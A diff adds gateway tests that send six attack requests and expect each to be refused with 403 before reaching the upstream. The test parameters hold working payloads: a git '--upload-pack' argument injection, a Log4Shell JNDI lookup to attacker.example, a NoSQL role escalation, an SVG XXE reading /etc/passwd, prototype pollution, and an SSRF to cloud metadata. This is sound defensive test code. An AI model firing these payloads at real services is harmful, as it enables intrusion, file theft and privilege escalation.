@@ -127,3 +127,90 @@ def test_an_ordinary_graphql_query_reaches_the_upstream(
     status, problem = send(gateway, "POST", "/api/v2/query", {"query": document})
     assert status == 200, problem
     assert len(recording.requests) == 1
+
+
+def send_raw(
+    gateway: GatewayProcess, method: str, target: str, body: bytes, headers: dict[str, str]
+) -> tuple[int, dict[str, Any]]:
+    connection = http.client.HTTPConnection("127.0.0.1", gateway.port, timeout=15)
+    connection.request(method, target, body=body or None, headers=headers)
+    response = connection.getresponse()
+    payload = response.read()
+    connection.close()
+    problem: dict[str, Any] = {}
+    if response.getheader("content-type") == "application/problem+json":
+        problem = json.loads(payload)
+    return response.status, problem
+
+
+SVG_XXE = (
+    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
+)
+AVATAR = (
+    b'--b\r\nContent-Disposition: form-data; name="avatar"; filename="me.png"\r\n'
+    b"Content-Type: image/png\r\n\r\n" + SVG_XXE + b"\r\n--b--\r\n"
+)
+JSON = {"Content-Type": "application/json"}
+
+
+@pytest.mark.parametrize(
+    ("method", "target", "body", "headers", "rule"),
+    [
+        (
+            "GET",
+            "/api/repos?" + urlencode({"ref": "--upload-pack=touch /tmp/x"}),
+            b"",
+            {},
+            "cmdi-argument-injection",
+        ),
+        (
+            "GET",
+            "/api/v1/accounts",
+            b"",
+            {"If-None-Match": "${jndi:ldap://attacker.example/a}"},
+            "log4shell-jndi",
+        ),
+        (
+            "POST",
+            "/api/v1/accounts/7",
+            json.dumps({"$set": {"role": "admin"}}).encode(),
+            JSON,
+            "nosql-operator-key",
+        ),
+        (
+            "POST",
+            "/api/v1/avatar",
+            AVATAR,
+            {"Content-Type": "multipart/form-data; boundary=b"},
+            "xxe-doctype",
+        ),
+        (
+            "PATCH",
+            "/api/v1/accounts/7",
+            json.dumps([{"op": "add", "path": "/__proto__/admin", "value": True}]).encode(),
+            {"Content-Type": "application/json-patch+json"},
+            "prototype-pollution-text",
+        ),
+        (
+            "POST",
+            "/api/v1/webhooks",
+            json.dumps({"url": "http://169.254.169.254.nip.io/latest/meta-data/"}).encode(),
+            JSON,
+            "ssrf-internal-host",
+        ),
+    ],
+)
+def test_attack_classes_that_used_to_pass_are_refused_before_the_upstream(
+    gateway: GatewayProcess,
+    recording: RecordingUpstream,
+    method: str,
+    target: str,
+    body: bytes,
+    headers: dict[str, str],
+    rule: str,
+) -> None:
+    status, problem = send_raw(gateway, method, target, body, headers)
+    assert status == 403, problem
+    assert rule in problem["rules"]
+    assert recording.requests == []
